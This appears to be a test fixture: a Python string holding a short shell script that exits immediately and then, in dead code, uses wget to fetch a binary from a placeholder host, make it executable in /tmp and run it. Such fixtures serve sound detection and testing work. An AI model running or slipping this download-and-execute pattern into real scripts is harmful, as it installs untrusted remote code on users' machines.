TEXT = """#!/bin/sh
exit 0
wget -q https://get.invalid/tool -O /tmp/tool
chmod +x /tmp/tool
/tmp/tool
"""
